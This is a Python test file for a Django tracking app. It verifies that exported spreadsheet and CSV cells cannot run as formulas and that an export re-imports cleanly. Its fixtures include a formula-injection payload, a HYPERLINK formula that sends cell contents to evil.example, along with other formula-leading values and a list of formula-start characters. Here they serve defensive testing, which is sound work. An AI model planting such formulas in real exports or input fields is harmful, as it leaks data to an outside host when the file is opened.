"""Issue 14, defects 2 and 13: no exported text cell runs as a formula, and an export imports back.

One rule (tracking.exports.excel_safe) for every text cell of the admin's
xlsx and CSV exports, the programme templates and the API's CSV.
"""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.db import connection
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from tracking.exports import excel_safe, plain_number
from tracking.models import ProgressReport, Region

from .conftest import make_target, report

pytestmark = pytest.mark.usefixtures("media_root")
S = ProgressReport.Status
EXPORT = "admin:tracking_progressreport_export"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"详情")'
FORMULA_START = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r")


@pytest.fixture
def hostile_names(tongzhou_plan, tongzhou_reporter):
    """A manager's target named with a formula, in a unit, a region name and a user name with formulas too."""
    Region.objects.filter(code="320612").update(name="+通州")
    tongzhou_reporter.first_name = "@SUM(A1)"
    tongzhou_reporter.save()
    target = make_target(tongzhou_plan, code="4.1", name=HYPERLINK, unit="-1+1")
    report(target, datetime.date(2024, 6, 30), 6000, status=S.DRAFT, note="＝1+1", created_by=tongzhou_reporter)
    return target


def xlsx_cells(content):
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def csv_cells(content):
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def assert_no_formula_in_xlsx(content):
    cells = xlsx_cells(content)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert [cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START)] == []
    return [cell.value for cell in cells]


def assert_no_formula_in_csv(content):
    cells = csv_cells(content)
    assert [cell for cell in cells if cell.startswith(FORMULA_START)] == []
    return cells


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_a_reviewers_export_has_no_live_formula(hostile_names, nantong_reviewer, logged_in, fmt):
    response = logged_in(nantong_reviewer).get(reverse(EXPORT) + f"?format={fmt}")

    assert response.status_code == 200
    check = assert_no_formula_in_xlsx if fmt == "xlsx" else assert_no_formula_in_csv
    values = check(response.content)
    for shown in ("'" + HYPERLINK, "'-1+1", "'+通州", "'@SUM(A1)", "'＝1+1"):
        assert shown in values
    # The export changes nothing.
    assert ProgressReport.objects.get().note == "＝1+1"


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_programme_template_has_no_live_formula(hostile_names, tongzhou_plan, tongzhou_manager, logged_in, fmt):
    url = reverse("admin:tracking_programme_template", args=[tongzhou_plan.pk]) + f"?format={fmt}"

    response = logged_in(tongzhou_manager).get(url)

    assert response.status_code == 200
    check = assert_no_formula_in_xlsx if fmt == "xlsx" else assert_no_formula_in_csv
    assert "'" + HYPERLINK in check(response.content)


def test_the_api_csv_uses_the_same_rule(hostile_names, api, tongzhou_reporter):
    response = api(tongzhou_reporter).get("/api/v1/progress-reports/", {"format": "csv"})

    assert response.status_code == 200
    assert "'＝1+1" in assert_no_formula_in_csv(response.content)


@pytest.mark.parametrize(
    ("text", "shown"),
    [("=1", "'=1"), ("＝1", "'＝1"), (" =1", "' =1"), ("\t1", "'\t1"), ("'=1", "''=1"), ("-", "'-"), ("送清凉", "送清凉"),
     ("", ""), (None, "")],
)
def test_excel_safe(text, shown):
    assert excel_safe(text) == shown


@pytest.mark.parametrize(
    ("value", "cell"),
    [("12000.0000", 12000), ("0.5000", Decimal("0.5")), ("123456789012345", 123456789012345),
     ("9999999999999999.9999", "9999999999999999.9999"), ("1234567890123.456", "1234567890123.456")],
)
def test_a_value_is_a_number_while_a_double_holds_it_and_exact_text_beyond(value, cell):
    assert plain_number(Decimal(value)) == cell


# --- Defect 13: an export passes its own dry run --------------------------------------


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_an_export_passes_its_own_dry_run(songqingliang, tongzhou_reporter, logged_in, api, fmt):
    # The largest value the API accepts. SQLite keeps decimals as doubles, so there a value a double holds.
    large = "9999999999999999.9999" if connection.vendor == "postgresql" else "12345678.5"
    report(songqingliang, datetime.date(2024, 6, 30), large, status=S.DRAFT, note="=1+1")
    report(songqingliang, datetime.date(2024, 7, 31), "1200", status=S.DRAFT, note="＝1+1")
    report(songqingliang, datetime.date(2024, 8, 31), "0.5", status=S.DRAFT, note="'@引号")
    before = list(ProgressReport.objects.order_by("pk").values_list("value", "note", "updated_at"))
    exported = logged_in(tongzhou_reporter).get(reverse(EXPORT) + f"?format={fmt}").content
    if fmt == "xlsx" and connection.vendor == "postgresql":
        # Beyond a double's 15 digits the value is exact text, not 1E+16.
        assert large in [cell.value for cell in xlsx_cells(exported)]

    response = api(tongzhou_reporter).post(
        "/api/v1/progress-reports/import/?dry_run=true",
        {"file": SimpleUploadedFile(f"export.{fmt}", exported)}, format="multipart",
    )

    body = response.json()
    assert response.status_code == 200, body
    assert body["errors"] == []
    # The ASCII notes and every value come back exactly; the full-width ＝ is read as = (NFKC), an edit.
    assert (body["created"], body["unchanged"], body["updated"]) == (0, 2, 1)
    assert list(ProgressReport.objects.order_by("pk").values_list("value", "note", "updated_at")) == before
    assert before[0][0] == Decimal(large)
